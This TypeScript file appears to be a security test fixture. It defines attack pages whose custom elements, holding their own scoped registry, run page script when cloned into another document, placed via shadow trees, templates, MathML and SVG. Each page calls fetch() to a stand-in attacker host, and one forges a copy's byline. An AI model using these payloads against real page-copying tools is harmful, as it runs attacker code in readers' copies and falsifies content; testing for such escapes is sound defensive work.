import { attacks, evil, strike } from './attack';

/** A page whose own element strikes wherever it is made in another document than the page's. `place` puts `kios` somewhere. */
const woken = (place: string, { callback = 'constructor() { super(); this.wake(); }' } = {}) => ({
  body: `<div id="tempat"></div><script>
    class Kios extends HTMLElement {
      wake() {
        if (this.ownerDocument === document) return;
        ${strike};
        fetch('${evil}/dibaca', { mode: 'no-cors', referrerPolicy: 'no-referrer' });
      }
      ${callback}
    }
    const registry = new CustomElementRegistry();
    registry.define('x-kios', Kios);
    const make = (name, inner = '') => Object.assign(document.createElement(name, { customElementRegistry: registry }), { innerHTML: inner });
    const place = document.querySelector('#tempat');
    const kios = make('x-kios');
    ${place}</script>`,
});

/** Elements with a registry of their own run what the page defined wherever they are cloned. */
export const wakings = attacks('waking', ['copies-are-made-anew'], {
  'an element with a registry of its own': woken('place.append(kios);'),
  'an element that wakes when it is connected': woken('place.append(kios);', {
    callback: 'connectedCallback() { this.wake(); }',
  }),
  'an element that rewrites the byline of the copy': woken('place.append(kios);', {
    callback: `connectedCallback() {
      this.wake();
      const byline = this.ownerDocument.querySelector('.byline');
      if (this.ownerDocument !== document && byline) byline.textContent = 'Penulis: Palsu Belaka';
    }`,
  }),
  'an element that is woken by its attribute': woken("kios.setAttribute('harga', '1'); place.append(kios);", {
    callback: "static observedAttributes = ['harga']; attributeChangedCallback() { this.wake(); }",
  }),
  'an element of its own registry in a plain paragraph of that registry': woken(
    "place.append(make('p', 'Pasar <x-kios></x-kios> lama.'));",
  ),
  'an element of its own registry in an open shadow tree': woken(
    "place.attachShadow({ mode: 'open', clonable: true, customElementRegistry: registry }).innerHTML = '<p>Pasar <x-kios></x-kios></p>';",
  ),
  'an element of its own registry in a closed shadow tree that is cloned': woken(
    "place.attachShadow({ mode: 'closed', clonable: true }).append(kios);",
  ),
  'an element of its own registry in a template': woken(
    "place.append(document.createElement('template')); place.firstChild.content.append(kios);",
  ),
  'an element of its own registry in a template of a cloned shadow tree': woken(
    `const template = document.createElement('template');
    template.content.append(kios);
    place.attachShadow({ mode: 'open', clonable: true, serializable: true }).append(template);`,
  ),
  'an element of its own registry in a formula’s page': woken(
    `place.innerHTML = '<math><mi>x</mi></math>';
    place.append(kios);`,
  ),
  'an element of its own registry in a drawing': woken(
    `place.innerHTML = '<svg><foreignObject></foreignObject></svg>';
    place.querySelector('foreignObject').append(kios);`,
  ),
});
